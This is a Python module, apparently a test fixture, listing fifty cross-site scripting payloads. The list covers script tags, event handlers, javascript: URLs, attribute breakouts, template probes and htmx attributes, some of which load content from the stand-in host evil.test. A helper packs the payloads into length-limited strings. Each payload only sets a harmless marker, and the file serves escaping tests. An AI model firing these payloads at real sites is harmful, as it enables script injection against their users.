"""Fifty texts that would run in a page that forgets to escape. Each says `xss`: what it gave birth to is found."""

RUN = "__xss=1"
PAYLOADS = (
    f"<script>{RUN}</script>", f"<ScRipt>{RUN}</sCript>", f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>", f"</option><script>{RUN}</script>", f"--><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>", f"<img/src=x/onerror={RUN}>", f"<svg onload={RUN}>", f"<svg/onload={RUN}>",
    f"<body onload={RUN}>", f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>",
    f"<video src=x onerror={RUN}>", f"<audio src=x onerror={RUN}>", f"<details open ontoggle={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>", f"<iframe src=javascript:{RUN}>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>", f"<a href=javascript:{RUN}>xss</a>", f"<form action=javascript:{RUN}><button>xss",
    f"<button formaction=javascript:{RUN}>xss", f"<math href=javascript:{RUN}>xss", "<base href=//evil.test/xss/>",
    "<meta http-equiv=refresh content=0;url=//evil.test/xss>", "<link rel=stylesheet href=//evil.test/xss.css>",
    "<style>@import '//evil.test/xss.css'</style>", f'" onmouseover="{RUN}', f"' onmouseover='{RUN}",
    f'" autofocus onfocus="{RUN}" x="', f"' autofocus onfocus='{RUN}' x='", f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>", f'"><img src=x onerror={RUN}>', f"x onmouseover={RUN}", f"javascript:{RUN}//xss",
    f"data:text/html,<script>{RUN}</script>", "https://evil.test/xss", f"https://a.test/\"onclick=\"{RUN}",
    "{{7*7}}xss{{config}}", "{% include 'xss' %}", "${__xss=1}", "#{7*7}xss", f"<p hx-on:load={RUN} hx-get=/xss>",
    "<p hx-get=//evil.test/xss hx-trigger=load>", f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script>{RUN}&#60;/script>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"[xss](javascript:{RUN})",
)  # fmt: skip
assert len(PAYLOADS) == 50


def together(most: int) -> list[str]:
    """Return texts of at most so many signs that hold all payloads between them."""
    texts = [""]
    for one in PAYLOADS:
        if len(texts[-1]) + len(one) + 1 > most and texts[-1]:
            texts.append("")
        texts[-1] = f"{texts[-1]} {one}".strip()
    return texts
